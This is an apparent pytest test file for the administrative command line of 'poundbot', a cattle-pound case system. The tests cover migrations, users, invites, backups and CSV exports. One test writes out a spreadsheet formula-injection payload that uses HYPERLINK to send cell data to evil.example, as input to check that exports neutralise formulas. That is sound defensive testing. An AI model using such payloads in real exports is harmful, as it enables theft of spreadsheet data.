"""The administrative command line, run in-process on a real SQLite file: migrate, users,
invites, backup and the CSV exports. Refusals are one line on stderr and exit status 1."""

from __future__ import annotations

import argparse
import asyncio
import csv
import io
import re
import socket
import sqlite3
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path

import pytest
from sqlalchemy.engine import make_url

from bot.adapters.export import CASE_HEADER, CaseLine, case_record, kinds_text, rupees
from bot.bootstrap import open_app
from bot.config import sample_config_path
from bot.entry.cli import main
from bot.services.admin import accept_invite
from bot.services.keeper import record_payment, record_seizure
from bot.store.migrate import alembic_config
from bot.support.caller import Caller
from bot.support.clock import FixedClock
from bot.support.csv_sheet import Table, csv_cell, write_csv
from domain.calendar import LOCAL_TZ
from domain.s07_seizure import Lot
from tests.integration.test_migrations import ENGINES, fresh_pg_database
from tests.service.helpers import seizure

SAMPLE = sample_config_path()
#: What ``users list`` says an officer who holds no declared office holds.
UNDECLARED = "local_authority,secretary,specified_officer (none declared)"

KNM_KEEPER = Caller(role="keeper", channel="cli", pound="KNM", authority="KNM-GP")
ENM_KEEPER = Caller(role="keeper", channel="cli", pound="ENM", authority="ENM-GP")


@pytest.fixture
def db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The SQLite file the commands use, with the sample configuration."""
    path = tmp_path / "poundbot.sqlite3"
    monkeypatch.setenv("POUNDBOT_DATABASE_URL", f"sqlite+aiosqlite:///{path}")
    monkeypatch.delenv("POUNDBOT_CONFIG", raising=False)
    monkeypatch.delenv("TELEGRAM_BOT_USERNAME", raising=False)
    return path


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    """``poundbot ARGV``: exit status, stdout, stderr."""
    status = main(list(argv))
    out, err = capsys.readouterr()
    return status, out, err


def refused(capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    """Run a command that must be refused; its one line of stderr."""
    status, out, err = run(capsys, *argv)
    assert (status, out) == (1, "")
    assert "Traceback" not in err
    assert err.count("\n") == 1
    assert err.startswith("poundbot: error: ")
    return err.removeprefix("poundbot: error: ").rstrip("\n")


def head() -> str:
    from alembic.script import ScriptDirectory

    revision = ScriptDirectory.from_config(alembic_config()).get_current_head()
    assert revision is not None
    return revision


# -- migrate ---------------------------------------------------------------------------


@pytest.fixture(params=ENGINES)
def empty_database(
    request: pytest.FixtureRequest, db: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[str]:
    """POUNDBOT_DATABASE_URL of an empty database: a new SQLite file or PostgreSQL db."""
    if request.param == "sqlite":
        yield f"sqlite+aiosqlite:///{db}"
        return
    with fresh_pg_database() as url:
        monkeypatch.setenv("POUNDBOT_DATABASE_URL", url)
        yield url


def test_migrate_upgrades_an_empty_database_to_head_then_says_it_is_already_there(
    empty_database: str, capsys: pytest.CaptureFixture[str]
) -> None:
    shown = make_url(empty_database).render_as_string(hide_password=True)
    assert run(capsys, "migrate") == (
        0,
        f"database {shown}: upgraded from an empty database to {head()} (head)\n",
        "",
    )
    assert run(capsys, "migrate") == (
        0,
        f"database {shown}: already at revision {head()} (head)\n",
        "",
    )
    assert run(capsys, "users", "list") == (0, "", "no active users\n")


def test_migrate_status_names_the_revision_and_what_is_pending_and_changes_nothing(
    empty_database: str, capsys: pytest.CaptureFixture[str]
) -> None:
    status, out, err = run(capsys, "migrate", "--status")
    assert (status, err) == (0, "")
    assert "at revision none (an empty database)" in out
    assert f"{head()}); poundbot migrate applies them" in out
    assert run(capsys, "migrate", "--status")[1] == out  # nothing was applied
    run(capsys, "migrate")
    status, out, _ = run(capsys, "migrate", "--status")
    assert f"at revision {head()}" in out
    assert "pending: none (at head)" in out
    history = run(capsys, "migrate", "--history")[1].splitlines()
    assert history[0].startswith("0001")
    assert history[-1].startswith(head())


# -- users -----------------------------------------------------------------------------


def test_users_are_added_listed_and_removed(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(
        capsys,
        *("users", "add", "--role", "keeper", "--pound", "KNM", "--phone", "+919847000001"),
        *("--name", "Ravi K.", "--lang", "ml"),
    ) == (
        0,
        "added user 1: keeper of pound KNM (KNM-GP), phone +919847000001, name Ravi K., "
        "language ml\n",
        "",
    )
    assert run(
        capsys, "users", "add", "--role", "officer", "--authority", "KNM-GP", "--telegram-id", "555"
    ) == (0, "added user 2: officer of KNM-GP, Telegram id 555\n", "")
    assert run(capsys, "users", "add", "--role", "admin", "--name", "Suma") == (
        0,
        "added user 3: state admin, name Suma\n",
        "",
    )
    assert run(capsys, "users", "list") == (
        0,
        "id\trole\tpound/authority\tphone\ttelegram id\tname\tlang\toffices\n"
        "1\tkeeper\tKNM\t+919847000001\t-\tRavi K.\tml\tpound_keeper\n"
        f"2\tofficer\tKNM-GP\t-\t555\t-\t-\t{UNDECLARED}\n"
        "3\tadmin\t-\t-\t-\tSuma\t-\t-\n",
        "",
    )
    assert run(capsys, "users", "remove", "1") == (
        0,
        "removed user 1 (keeper of pound KNM (KNM-GP), Ravi K.): kept for the audit log; "
        "their phone and Telegram id are free again\n",
        "",
    )
    assert run(capsys, "users", "list")[1].splitlines() == [
        "id\trole\tpound/authority\tphone\ttelegram id\tname\tlang\toffices",
        f"2\tofficer\tKNM-GP\t-\t555\t-\t-\t{UNDECLARED}",
        "3\tadmin\t-\t-\t-\tSuma\t-\t-",
    ]


def test_the_offices_a_user_holds_are_declared_listed_and_changed(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """An officer declared to hold offices is told of, and takes, what the Act gives
    them; ``users list`` notes on stderr the offices the authority's Act gives powers to
    that none of its officers holds (what is for them goes to every officer)."""
    officer = ("users", "add", "--role", "officer", "--authority", "KNM-GP")
    assert run(
        capsys,
        *officer,
        "--telegram-id",
        "555",
        "--office",
        "district_magistrate",
        "--office",
        "secretary",
    ) == (
        0,
        "added user 1: officer of KNM-GP, Telegram id 555, offices secretary,district_magistrate\n",
        "",
    )
    assert run(capsys, *officer, "--telegram-id", "556")[0] == 0
    status, out, err = run(capsys, "users", "list")
    assert (status, out.splitlines()[1:]) == (
        0,
        [
            "1\tofficer\tKNM-GP\t-\t555\t-\t-\tsecretary,district_magistrate",
            f"2\tofficer\tKNM-GP\t-\t556\t-\t-\t{UNDECLARED}",
        ],
    )
    assert err.splitlines() == [
        "note: no active officer of KNM-GP holds director under the kerala-1961 profile "
        "(fix_conditions, order_disposal): what is for it goes to every officer, and any "
        "officer may take its steps",
        "note: no active officer of KNM-GP holds magistrate under the kerala-1961 profile "
        "(hear_complaint): what is for it goes to every officer, and any officer may take "
        "its steps",
    ]
    assert run(capsys, "users", "offices", "2", "--office", "director") == (
        0,
        "user 2 (officer of KNM-GP) holds: director\n",
        "",
    )
    assert "holds director" not in run(capsys, "users", "list")[2]
    assert run(capsys, "users", "offices", "1", "--none")[1] == (
        f"user 1 (officer of KNM-GP) holds: {UNDECLARED}\n"
    )
    assert run(capsys, "users", "offices", "2", "--none")[0] == 0
    assert run(capsys, "users", "list")[2] == ""  # none declared: as before offices were


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        pytest.param(
            ("--role", "keeper", "--pound", "KNM", "--office", "police_station"),
            "a keeper holds only the office pound_keeper, not police_station "
            "(office: police_station)",
            id="a keeper in an officer's office",
        ),
        pytest.param(
            ("--role", "officer", "--authority", "KNM-GP", "--office", "pound_keeper"),
            "an officer cannot hold the office pound_keeper: register a keeper "
            "(office: pound_keeper)",
            id="an officer as the pound-keeper",
        ),
    ],
)
def test_an_office_the_role_cannot_hold_is_refused_in_one_line(
    db: Path, capsys: pytest.CaptureFixture[str], argv: tuple[str, ...], message: str
) -> None:
    assert refused(capsys, "users", "add", *argv) == message
    assert refused(capsys, "invite", *argv) == message


def test_an_office_no_act_has_is_a_usage_error(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as exited:
        main(
            ["users", "add", "--role", "officer", "--authority", "KNM-GP", "--office", "collector"]
        )
    assert exited.value.code == 2
    assert "invalid choice: 'collector'" in capsys.readouterr().err


@pytest.mark.parametrize(
    "written",
    ["9847000012", "09847000012", "98470 00012", "+91 98470-00012", "+919847000012"],
)
def test_a_users_mobile_is_taken_as_sms_takes_it_and_stored_in_e164(
    db: Path, capsys: pytest.CaptureFixture[str], written: str
) -> None:
    add = ("users", "add", "--role", "keeper", "--pound", "KNM", "--phone", written)
    assert run(capsys, *add) == (
        0,
        "added user 1: keeper of pound KNM (KNM-GP), phone +919847000012\n",
        "",
    )
    assert run(capsys, "users", "list")[1].splitlines()[1].split("\t")[3] == "+919847000012"
    # The same number written another way is the same user.
    other = ("users", "add", "--role", "keeper", "--pound", "KNM", "--phone", "9847000012")
    assert refused(capsys, *other) == "already registered (value: +919847000012)"


def test_a_removed_users_phone_can_be_registered_again(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    add = ("users", "add", "--role", "keeper", "--pound", "KNM", "--phone", "+919847000001")
    assert run(capsys, *add)[0] == 0
    assert run(capsys, "users", "remove", "1")[0] == 0
    assert run(capsys, *add)[1].startswith("added user 2: keeper of pound KNM")


def test_an_empty_user_list_prints_nothing_and_says_so_on_stderr(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run(capsys, "migrate")
    assert run(capsys, "users", "list") == (0, "", "no active users\n")


def test_a_phone_number_already_registered_is_refused_in_one_line(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    add = ("users", "add", "--role", "keeper", "--pound", "KNM", "--phone", "+919847000001")
    assert run(capsys, *add)[0] == 0
    assert refused(capsys, *add) == "already registered (value: +919847000001)"
    officer = ("--role", "officer", "--authority", "KNM-GP", "--phone", "+919847000001")
    assert refused(capsys, "users", "add", *officer) == "already registered (value: +919847000001)"


def test_a_telegram_id_already_registered_is_refused(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    add = ("users", "add", "--role", "admin", "--telegram-id", "555")
    assert run(capsys, *add)[0] == 0
    assert refused(capsys, *add) == "already registered (value: 555)"


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        pytest.param(
            ("--role", "keeper", "--pound", "XYZ"),
            "a keeper needs a known pound (pound: XYZ)",
            id="an unknown pound",
        ),
        pytest.param(
            ("--role", "keeper", "--authority", "KNM-GP"),
            "a keeper needs a known pound (pound: not given)",
            id="a keeper without a pound",
        ),
        pytest.param(
            ("--role", "officer", "--authority", "XYZ-GP"),
            "an officer needs a known authority (authority: XYZ-GP)",
            id="an unknown authority",
        ),
        pytest.param(
            ("--role", "keeper", "--pound", "KNM", "--phone", "04952370000"),
            "bad phone number: not a mobile number (a landline or a service number): SMS "
            "cannot reach it (text: 04952370000; region: IN)",
            id="a landline",
        ),
        pytest.param(
            ("--role", "keeper", "--pound", "KNM", "--phone", "98470"),
            "bad phone number: too few digits for a mobile number (text: 98470; region: IN)",
            id="too few digits",
        ),
        pytest.param(
            ("--role", "keeper", "--pound", "KNM", "--phone", "ravi"),
            "bad phone number: not a telephone number (text: ravi; region: IN)",
            id="not a number",
        ),
    ],
)
def test_a_user_who_cannot_be_registered_is_refused_in_one_line(
    db: Path, capsys: pytest.CaptureFixture[str], argv: tuple[str, ...], message: str
) -> None:
    assert refused(capsys, "users", "add", *argv) == message
    assert run(capsys, "users", "list")[1] == ""


def test_removing_a_user_who_is_not_there_is_refused(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert refused(capsys, "users", "remove", "99") == "no such user (user_id: 99)"


def test_a_configuration_with_faults_is_refused_in_one_line_naming_the_check(
    db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    run(capsys, "migrate")
    bad = tmp_path / "poundbot.toml"
    bad.write_text("[reminders]\nsms_per_second = = 1\n", encoding="utf-8")
    monkeypatch.setenv("POUNDBOT_CONFIG", str(bad))
    assert refused(capsys, "users", "list") == (
        f"the configuration {bad} has 1 fault(s); run: poundbot config check {bad}"
    )
    monkeypatch.setenv("POUNDBOT_CONFIG", str(tmp_path / "missing.toml"))
    assert refused(capsys, "users", "list") == (
        f"cannot read the configuration {tmp_path / 'missing.toml'}: No such file or directory"
    )


def test_a_bare_postgresql_url_is_refused_before_connecting(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("POUNDBOT_DATABASE_URL", "postgresql://postgres@127.0.0.1/poundbot")
    assert "postgresql+asyncpg://" in refused(capsys, "users", "list")


def test_a_database_server_that_cannot_be_reached_is_refused_in_one_line(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    with socket.socket() as probe:  # a loopback port with nobody listening
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    monkeypatch.setenv("POUNDBOT_DATABASE_URL", f"postgresql+asyncpg://pb@127.0.0.1:{port}/pb")
    assert refused(capsys, "users", "list").startswith("cannot reach the database: ")


# -- invite ----------------------------------------------------------------------------

INVITE = re.compile(
    r"invite code: (?P<code>[A-Za-z0-9_-]{16})\n"
    r"for: (?P<post>.+)\n"
    r"expires: (?P<expires>\d{4}-\d\d-\d\d \d\d:\d\d) IST \(single use\)\n"
    r"(?P<how>.+)\n"
)


async def _accept(code: str) -> tuple[str, str | None, str | None, str]:
    async with open_app() as app, app.store.transaction() as tx:
        user = await accept_invite(tx, app.deps, code, telegram_id=4242, name="Tg", lang="ml")
    return user.role, user.pound_code, user.authority_code, user.name


def test_an_invite_without_a_bot_username_says_to_send_start_with_the_code(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    status, out, err = run(
        capsys, "invite", "--role", "keeper", "--pound", "KNM", "--name", "Ravi K.", "--days", "3"
    )
    assert (status, err) == (0, "")
    found = INVITE.fullmatch(out)
    assert found, out
    code = found["code"]
    assert found["post"] == "keeper of pound KNM (KNM-GP), name Ravi K."
    expires = datetime.strptime(found["expires"], "%Y-%m-%d %H:%M").replace(tzinfo=LOCAL_TZ)
    days = (expires - datetime.now(LOCAL_TZ)).total_seconds() / 86400
    assert 2.99 < days <= 3
    assert found["how"] == (
        f"give the code: in Telegram, open the bot and send /start {code} "
        "(set TELEGRAM_BOT_USERNAME to print a link)"
    )
    assert asyncio.run(_accept(code)) == ("keeper", "KNM", "KNM-GP", "Ravi K.")


def test_an_invite_with_a_bot_username_prints_the_telegram_deep_link(
    db: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("TELEGRAM_BOT_USERNAME", "@KnmPoundBot")
    status, out, _ = run(capsys, "invite", "--role", "officer", "--authority", "KNM-GP")
    found = INVITE.fullmatch(out)
    assert status == 0
    assert found, out
    assert found["post"] == "officer of KNM-GP"
    assert found["how"] == f"link: https://t.me/KnmPoundBot?start={found['code']}"
    assert asyncio.run(_accept(found["code"])) == ("officer", None, "KNM-GP", "Tg")


def test_an_invite_says_the_offices_it_grants_and_the_user_it_makes_holds_them(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    invite = ("invite", "--role", "officer", "--authority", "KNM-GP")
    status, out, _ = run(capsys, *invite, "--office", "police_station")
    assert status == 0
    code = re.search(r"invite code: (\S+)", out)
    assert code is not None
    assert "\noffices: police_station\n" in out
    asyncio.run(_accept(code[1]))
    assert run(capsys, "users", "list")[1].splitlines()[1].endswith("\tpolice_station")


def test_an_invite_for_an_unknown_pound_is_refused(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    message = refused(capsys, "invite", "--role", "keeper", "--pound", "XYZ")
    assert message == "a keeper needs a known pound (pound: XYZ)"


def test_an_invite_for_no_days_is_a_usage_error(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit) as exited:
        main(["invite", "--role", "admin", "--days", "0"])
    assert exited.value.code == 2
    assert "0 is not a positive number of days" in capsys.readouterr().err


# -- backup ----------------------------------------------------------------------------


def test_a_backup_is_a_sqlite_file_holding_the_users(
    db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run(capsys, "users", "add", "--role", "admin", "--name", "Suma", "--phone", "+919847000001")
    target = tmp_path / "backups" / "poundbot-2026-03-01.sqlite3"
    target.parent.mkdir()
    status, out, err = run(capsys, "backup", str(target))
    assert (status, err) == (0, "")
    size = target.stat().st_size
    assert out == f"backed up {db} to {target} ({size} bytes, quick_check ok)\n"
    with sqlite3.connect(target) as copy:
        rows = copy.execute("SELECT id, role, phone, name FROM users").fetchall()
        (mode,) = copy.execute("PRAGMA journal_mode").fetchone()
    copy.close()
    assert rows == [(1, "admin", "+919847000001", "Suma")]
    assert mode == "delete"
    assert sorted(p.name for p in target.parent.iterdir()) == [target.name]


def test_a_backup_with_no_file_goes_into_the_backups_folder_beside_the_database(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run(capsys, "users", "add", "--role", "admin", "--name", "Suma", "--phone", "+919847000001")
    folder = db.parent / "backups"
    assert not folder.exists()  # a fresh install: the folder is made
    status, out, err = run(capsys, "backup")
    assert (status, err) == (0, "")
    (made,) = folder.iterdir()
    assert made.name.startswith(f"{db.stem}-")
    assert made.suffix == ".sqlite3"
    assert out.startswith(f"backed up {db} to {made} (")
    with sqlite3.connect(made) as copy:
        assert copy.execute("SELECT name FROM users").fetchall() == [("Suma",)]
    copy.close()


def test_a_backup_taken_while_a_writer_holds_a_transaction_copies_what_was_committed(
    db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run(capsys, "users", "add", "--role", "admin", "--name", "Committed")
    writer = sqlite3.connect(db, isolation_level=None)
    try:
        assert writer.execute("PRAGMA journal_mode").fetchone() == ("wal",)
        writer.execute("BEGIN IMMEDIATE")
        writer.execute(
            "INSERT INTO users (role, name, active, created_at) "
            "VALUES ('admin', 'Uncommitted', 1, '2026-03-01 05:00:00')"
        )
        status, _, err = run(capsys, "backup", str(tmp_path / "copy.sqlite3"))
        writer.execute("COMMIT")
    finally:
        writer.close()
    assert (status, err) == (0, "")
    with sqlite3.connect(tmp_path / "copy.sqlite3") as copy:
        names = copy.execute("SELECT name FROM users ORDER BY id").fetchall()
    copy.close()
    assert names == [("Committed",)]


def test_a_backup_never_overwrites_a_file(
    db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run(capsys, "migrate")
    target = tmp_path / "old.sqlite3"
    target.write_bytes(b"an older backup")
    assert refused(capsys, "backup", str(target)) == f"{target} exists: back up to a new file"
    assert target.read_bytes() == b"an older backup"


def test_a_backup_of_a_database_not_yet_created_is_refused(
    db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert refused(capsys, "backup", str(tmp_path / "copy.sqlite3")).startswith(
        f"no database at {db}: run poundbot migrate"
    )
    assert not db.exists()


def test_a_backup_of_postgresql_is_refused_and_points_to_pg_dump(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("POUNDBOT_DATABASE_URL", "postgresql+asyncpg://pb:s3cret@db/poundbot")
    message = refused(capsys, "backup", str(tmp_path / "copy.sqlite3"))
    assert message == (
        "backup copies the embedded SQLite database; postgresql+asyncpg://pb:***@db/poundbot "
        "is postgresql: use pg_dump (e.g. pg_dump -Fc -f FILE DBNAME)"
    )


# -- export ----------------------------------------------------------------------------


async def _seed() -> None:
    """KNM-1 (2 cows, a buffalo) stays impounded; KNM-2 and ENM-1 are paid for (s.12)."""
    clock = FixedClock(datetime(2026, 3, 1, 10, 30, tzinfo=LOCAL_TZ))
    async with open_app(clock=clock) as app:
        for keeper, report in (
            (KNM_KEEPER, seizure()),
            (KNM_KEEPER, seizure(lots=(Lot("cow", 1, "black"),), place="Chathamangalam road")),
            (ENM_KEEPER, seizure(pound="ENM", lots=(Lot("cow", 1),), place="Perla junction")),
        ):
            async with app.store.transaction() as tx:
                await record_seizure(tx, app.deps, keeper, report)
        clock.set(datetime(2026, 3, 2, 11, 0, tzinfo=LOCAL_TZ))
        async with app.store.transaction() as tx:
            await record_payment(tx, app.deps, ENM_KEEPER, "ENM-1")
        clock.set(datetime(2026, 3, 3, 11, 0, tzinfo=LOCAL_TZ))
        async with app.store.transaction() as tx:
            await record_payment(tx, app.deps, KNM_KEEPER, "KNM-2")


def rows_of(text: str) -> list[list[str]]:
    assert text.endswith("\r\n")  # RFC 4180
    return list(csv.reader(io.StringIO(text, newline="")))


def test_export_cases_writes_one_csv_row_per_case_with_its_kinds_and_heads(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    asyncio.run(_seed())
    status, out, err = run(capsys, "export", "cases", "--csv")
    assert (status, err) == (0, "")
    assert rows_of(out) == [
        [
            "number",
            "pound",
            "stage",
            "impounded_on",
            "place_seized",
            "kinds",
            "heads",
            "last_event_on",
        ],
        ["ENM-1", "ENM", "released", "2026-03-01", "Perla junction", "1 cow", "1", "2026-03-02"],
        [
            "KNM-1",
            "KNM",
            "impounded",
            "2026-03-01",
            "Kunnamangalam market",
            "2 cow; 1 buffalo",
            "3",
            "2026-03-01",
        ],
        [
            "KNM-2",
            "KNM",
            "released",
            "2026-03-01",
            "Chathamangalam road",
            "1 cow",
            "1",
            "2026-03-03",
        ],
    ]


# s.12 payment on the 3rd for 1 cow impounded on the 1st at KNM (both days included):
# fine s.11 Rs 750; feeding s.4 3 days x Rs 120.50 = Rs 361.50.
# At ENM (from the day after): fine Rs 500; feeding 1 day x Rs 90. The fines received
# (s.12) are credited to the authority's fund (s.17(1)): two steps.
LEDGER = [
    ["date", "authority", "case", "account", "amount_rupees", "provision"],
    ["2026-03-02", "ENM-GP", "ENM-1", "fines", "500.00", "s.12"],
    ["2026-03-02", "ENM-GP", "ENM-1", "keeper_feeding", "90.00", "s.16(2)"],
    ["2026-03-02", "ENM-GP", "ENM-1", "fines", "-500.00", "s.17(1)"],
    ["2026-03-02", "ENM-GP", "ENM-1", "fund", "500.00", "s.17(1)"],
    ["2026-03-03", "KNM-GP", "KNM-2", "fines", "750.00", "s.12"],
    ["2026-03-03", "KNM-GP", "KNM-2", "keeper_feeding", "361.50", "s.16(2)"],
    ["2026-03-03", "KNM-GP", "KNM-2", "fines", "-750.00", "s.17(1)"],
    ["2026-03-03", "KNM-GP", "KNM-2", "fund", "750.00", "s.17(1)"],
]


def test_export_ledger_writes_every_entry_in_rupees_oldest_first(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    asyncio.run(_seed())
    status, out, err = run(capsys, "export", "ledger", "--csv")
    assert (status, err) == (0, "")
    assert rows_of(out) == LEDGER


def test_export_ledger_of_one_authority_to_a_file(
    db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    asyncio.run(_seed())
    target = tmp_path / "ledger-knm.csv"
    status, out, err = run(
        capsys, "export", "ledger", "--csv", "--authority", "KNM-GP", "--out", str(target)
    )
    assert (status, out, err) == (0, f"wrote 4 ledger rows to {target}\n", "")
    assert rows_of(target.read_bytes().decode("utf-8")) == [LEDGER[0], *LEDGER[5:]]


def test_export_of_an_empty_database_is_the_header_alone(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run(capsys, "migrate")
    assert run(capsys, "export", "ledger", "--csv") == (
        0,
        "date,authority,case,account,amount_rupees,provision\r\n",
        "",
    )


def test_export_ledger_of_an_unknown_authority_is_refused(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    run(capsys, "migrate")
    message = refused(capsys, "export", "ledger", "--csv", "--authority", "XYZ-GP")
    assert message == "unknown authority (authority: XYZ-GP)"


@pytest.mark.parametrize(
    ("paise", "text"),
    [
        (0, "0.00"),
        (5, "0.05"),
        (99, "0.99"),
        (100, "1.00"),
        (36150, "361.50"),
        (-5, "-0.05"),
        (-36150, "-361.50"),
        (123_456_789_012_345_678, "1234567890123456.78"),
    ],
)
def test_paise_are_written_as_rupees_with_two_decimals_without_floats(
    paise: int, text: str
) -> None:
    assert rupees(paise) == text


def test_lots_of_the_same_kind_are_added_up_in_the_order_they_first_appear() -> None:
    lots = [("cow", 2), ("buffalo", 1), ("cow", 1)]
    assert kinds_text(lots) == "3 cow; 1 buffalo"


def test_a_place_that_a_spreadsheet_would_run_as_a_formula_is_kept_as_text() -> None:
    line = CaseLine("KNM-9", "KNM", "impounded", datetime(2026, 3, 1).date(), "=1+1", (), None)
    out = io.StringIO()
    write_csv(out, Table(CASE_HEADER, [case_record(line)]))
    assert out.getvalue().splitlines()[1].split(",")[4:] == ["'=1+1", "", "0", ""]


# -- the command line as a person meets it (issue 14, item 8) --------------------------


def test_every_option_of_every_command_says_what_it_is_for() -> None:
    from bot.entry.cli import build_parser

    def walk(parser: argparse.ArgumentParser, name: str) -> Iterator[str]:
        for action in parser._actions:
            if isinstance(action, argparse._SubParsersAction):
                for sub_name, sub in action.choices.items():
                    yield from walk(sub, f"{name} {sub_name}")
            elif not action.help:
                yield f"{name} {'/'.join(action.option_strings) or action.dest}"

    assert list(walk(build_parser(), "poundbot")) == []


def test_version_prints_the_installed_version(capsys: pytest.CaptureFixture[str]) -> None:
    from importlib.metadata import version

    with pytest.raises(SystemExit) as exit_:
        main(["--version"])
    assert exit_.value.code == 0
    assert capsys.readouterr().out == f"poundbot {version('poundbot')}\n"


def test_version_answers_as_its_parser_does(capsys: pytest.CaptureFixture[str]) -> None:
    """A bare ``--version`` is answered before any parser is built (bench/cli_start.py
    times it); the parser's own ``--version`` (after ``--log-level``) says the same."""
    from bot.entry.cli import build_parser

    with pytest.raises(SystemExit) as bare:
        main(["--version"])
    said = capsys.readouterr()
    with pytest.raises(SystemExit) as parsed:
        build_parser().parse_args(["--log-level", "info", "--version"])
    assert (bare.value.code, said) == (parsed.value.code, capsys.readouterr())


@pytest.mark.parametrize(
    ("url", "says"),
    [
        ("mysql://root@127.0.0.1/test", "mysql:// is not supported"),
        ("mysql+aiomysql://root@127.0.0.1/test", "mysql+aiomysql:// is not supported"),
        ("not a url at all", "is not a database URL"),
    ],
)
@pytest.mark.parametrize("command", [("migrate",), ("users", "list"), ("backup", "x.db")])
def test_a_database_url_poundbot_cannot_run_on_is_refused_in_one_line(
    db: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    url: str,
    says: str,
    command: tuple[str, ...],
) -> None:
    monkeypatch.setenv("POUNDBOT_DATABASE_URL", url)
    assert says in refused(capsys, *command)


def test_a_backup_into_a_folder_that_does_not_exist_names_the_folder(
    db: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    assert run(capsys, "migrate")[0] == 0
    target = tmp_path / "no-such-folder" / "b.sqlite3"
    assert refused(capsys, "backup", str(target)) == (
        f"no folder {target.parent}: make it first, or back up elsewhere"
    )
    assert not target.parent.exists()


def test_export_writes_csv_without_the_csv_flag_and_counts_in_words(
    db: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    asyncio.run(_seed())
    status, plain, err = run(capsys, "export", "cases")
    assert (status, err) == (0, "")
    assert plain == run(capsys, "export", "cases", "--csv")[1]  # the flag still works
    cases = len(rows_of(plain)) - 1
    target = tmp_path / "cases.csv"
    noun = "case" if cases == 1 else "cases"
    assert run(capsys, "export", "cases", "--out", str(target)) == (
        0,
        f"wrote {cases} {noun} to {target}\n",
        "",
    )


def test_contacts_channel_chooses_whatsapp_or_sms_and_auto_gives_the_choice_back(
    db: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from bot.store.models import Contact

    assert run(capsys, "migrate")[0] == 0
    status, out, err = run(capsys, "contacts", "channel", "09847099999", "whatsapp")
    assert (status, err) == (0, "")
    assert out == "+919847099999: messages go by whatsapp (chosen)\n"
    status, out, _ = run(capsys, "contacts", "channel", "+919847099999", "auto")
    assert out == "+919847099999: messages go by sms, the channel it last wrote on\n"

    async def stored() -> Contact | None:
        async with open_app() as app, app.store.transaction() as tx:
            return await tx.session.get(Contact, "+919847099999")

    contact = asyncio.run(stored())
    assert contact is not None
    assert contact.channel is None
    assert refused(capsys, "contacts", "channel", "12", "sms") == "not a mobile number: '12'"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_cell_starting_like_a_formula_is_written_as_text(start: str) -> None:
    """Any column, the header too: the one writer of every export neutralises the cell."""
    cell = f'{start}HYPERLINK("http://evil.example/?"&A1,"x")'
    out = io.StringIO()
    write_csv(out, Table(("a", cell), [[cell, "ok", cell]]))
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows == [["a", "'" + cell], ["'" + cell, "ok", "'" + cell]]


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("-300", "-300"),  # a refund in the ledger: a number, left a number
        ("-0.05", "-0.05"),
        ("120.50", "120.50"),
        ("-300 cows", "'-300 cows"),  # not a plain number: text
        ("-1+2", "'-1+2"),
        ("+300", "'+300"),
        ("-", "'-"),
        ("-3.", "'-3."),
        ("Kunnamangalam - market", "Kunnamangalam - market"),
    ],
)
def test_a_plain_number_is_left_alone_and_anything_else_is_text(cell: str, written: str) -> None:
    assert csv_cell(cell) == written


def test_write_csv_is_the_only_csv_writer() -> None:
    """Every export goes through the one writer that neutralises formulas."""
    root = Path(__file__).parents[2] / "bot"
    writers = [
        path.relative_to(root).as_posix()
        for path in root.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert writers == ["support/csv_sheet.py"]


def test_every_command_says_what_it_does_and_gives_an_example_that_parses() -> None:
    import shlex

    from bot.entry.cli import EXAMPLES, _described, build_parser, leaves

    parser = _described(build_parser())
    commands = leaves(parser)
    assert {name for name, _, _ in commands} == set(EXAMPLES)
    for name, sub, _ in commands:
        assert sub.description, name
